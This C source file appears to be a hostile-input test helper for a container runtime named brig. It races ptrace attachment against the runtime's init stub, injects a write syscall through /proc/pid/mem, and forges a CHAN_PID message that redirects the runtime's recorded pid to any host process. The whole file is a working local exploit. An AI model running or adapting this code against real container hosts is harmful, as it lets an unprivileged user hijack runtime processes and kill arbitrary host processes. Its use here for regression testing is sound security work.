/* stubrace (hostile.bats, from the second review of issue 17): an
 * unprivileged host user with the uid of a container's
 * process (no user namespace) takes over brig's stub between its execve
 * and its prctl(PR_SET_DUMPABLE, 0): PTRACE_ATTACH sleeps on
 * cred_guard_mutex while the execve runs and is checked once the new
 * image is dumpable.  The stub is the init brig create trusts (the
 * SO_PASSCRED sender is the helper's pid), so a CHAN_PID message written
 * from it sets state.json's pid to any host process.
 *   stubrace REPORT FORGED_PID SECONDS [error]
 * Reports ATTACHED, FORGED, and the seccomp mode seen before the stub
 * loaded its filter (UNFILTERED). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *rep;
static int want_error;
static void say(const char *w) { fprintf(rep, "%s\n", w); fflush(rep); }

static int candidate(int pid)
{
	char p[64], buf[4096];
	snprintf(p, sizeof(p), "/proc/%d/status", pid);
	int fd = open(p, O_RDONLY);
	if (fd < 0) return 0;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0) return 0;
	buf[n] = 0;
	char *u = strstr(buf, "\nUid:");
	/* the stub names itself brig; an init started at once keeps its
	 * runtime's name (brig, or a copy's: brig-copy) */
	if (!u || strncmp(buf, "Name:\tbrig", 10) != 0) return 0;
	return (uid_t)atoi(u + 5) == getuid() || atoi(u + 5) == 0;
}

static int hijack(int pid, const char *forged)
{
	struct user_regs_struct r, s;
	char p[128], l[512], maps[128];
	long lo = 0, hi = 0;
	int status;

	if (waitpid(pid, &status, __WALL) < 0) return -1;
	int seccomp = -1;
	snprintf(p, sizeof(p), "/proc/%d/status", pid);
	FILE *f = fopen(p, "r");
	while (f && fgets(l, sizeof(l), f))
		if (!strncmp(l, "Seccomp:", 8)) seccomp = atoi(l + 8);
	if (f) fclose(f);
	/* the socket */
	int sock = -1;
	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	struct dirent *e;
	while (d && (e = readdir(d))) {
		char t[256], q[600];
		snprintf(q, sizeof(q), "%s/%s", p, e->d_name);
		ssize_t n = readlink(q, t, sizeof(t) - 1);
		if (n > 0) { t[n] = 0; if (!strncmp(t, "socket:", 7)) sock = atoi(e->d_name); }
	}
	if (d) closedir(d);
	/* a syscall instruction in the stub's text */
	snprintf(maps, sizeof(maps), "/proc/%d/maps", pid);
	f = fopen(maps, "r");
	while (f && fgets(l, sizeof(l), f))
		if (strstr(l, "r-xp") && !lo) sscanf(l, "%lx-%lx", &lo, &hi);
	if (f) fclose(f);
	snprintf(p, sizeof(p), "/proc/%d/mem", pid);
	int mem = open(p, O_RDWR);
	unsigned char text[65536];
	long sc = 0;
	ssize_t n = pread(mem, text, hi - lo < (long)sizeof(text) ? hi - lo : (long)sizeof(text), lo);
	for (ssize_t i = 0; i + 1 < n; i++)
		if (text[i] == 0x0f && text[i + 1] == 0x05) { sc = lo + i; break; }
	/* not brig's stub (the container's own process, say): let it go */
	if (sock < 0 || !sc || mem < 0) { ptrace(PTRACE_DETACH, pid, 0, 0); if (mem >= 0) close(mem); return -1; }
	say("ATTACHED");
	say(seccomp == 0 ? "UNFILTERED" : "FILTERED");
	{
		char st[4096] = "", ex[256] = "";
		snprintf(p, sizeof(p), "/proc/%d/status", pid);
		int sf = open(p, O_RDONLY);
		if (sf >= 0) { ssize_t k = read(sf, st, sizeof(st) - 1); st[k > 0 ? k : 0] = 0; close(sf); }
		snprintf(p, sizeof(p), "/proc/%d/exe", pid);
		ssize_t k = readlink(p, ex, sizeof(ex) - 1); ex[k > 0 ? k : 0] = 0;
		fprintf(rep, "# pid %d exe %s\n%s\n", pid, ex, st);
		fflush(rep);
	}
	ptrace(PTRACE_GETREGS, pid, 0, &r);
	s = r;
	/* CHAN_PID <forged>, then (mode "error") CHAN_ERROR: create and exec
	 * kill_and_reap() the pid they were told on an error */
	int nmsg = want_error ? 2 : 1, sent = 0;
	for (int m = 0; m < nmsg; m++) {
		unsigned char msg[64];
		const char *body = m == 0 ? forged : "review2: hijacked";
		unsigned int h[2] = {m == 0 ? 7 : 5, (unsigned)strlen(body)};
		memcpy(msg, h, 8);
		memcpy(msg + 8, body, h[1]);
		long addr = (r.rsp - 2048) & ~15L;
		if (pwrite(mem, msg, 8 + h[1], addr) != (ssize_t)(8 + h[1]))
			break;
		s = r;
		s.rip = sc; s.rax = SYS_write; s.orig_rax = -1; s.rdi = sock; s.rsi = addr; s.rdx = 8 + h[1];
		ptrace(PTRACE_SETREGS, pid, 0, &s);
		/* a SIGTRAP (the legacy one after execve) or the SIGSTOP may
		 * still be pending: step until the syscall has run */
		for (int k = 0; k < 4; k++) {
			ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
			waitpid(pid, &status, __WALL);
			ptrace(PTRACE_GETREGS, pid, 0, &s);
			if (s.rip == (unsigned long)sc + 2) break;
		}
		if ((long)s.rax == (long)(8 + h[1])) sent++;
	}
	if (sent == nmsg) say("FORGED");
	ptrace(PTRACE_SETREGS, pid, 0, &r);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	/* let it report READY, then end it so that create returns */
	sleep(1);
	kill(pid, SIGKILL);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 4) return 2;
	rep = fopen(argv[1], "a");
	want_error = argc > 4 && !strcmp(argv[4], "error");
	time_t end = time(NULL) + atoi(argv[3]);
	say("READY");
	while (time(NULL) < end) {
		/* the newest process named brig that is root or ours */
		DIR *d = opendir("/proc");
		struct dirent *e;
		int pid = 0;
		while ((e = readdir(d))) {
			int p = atoi(e->d_name);
			if (p > pid && p != getpid() && candidate(p)) pid = p;
		}
		closedir(d);
		/* spin: PTRACE_ATTACH sleeps on cred_guard_mutex during the
		 * stub's execve and is checked when it is dumpable */
		for (int i = 0; pid && i < 2000; i++) {
			if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
				if (hijack(pid, argv[2]) < 0)
					break;
				say("DONE");
				return 0;
			}
			if (errno == ESRCH) break;
		}
	}
	say("DONE");
	return 0;
}
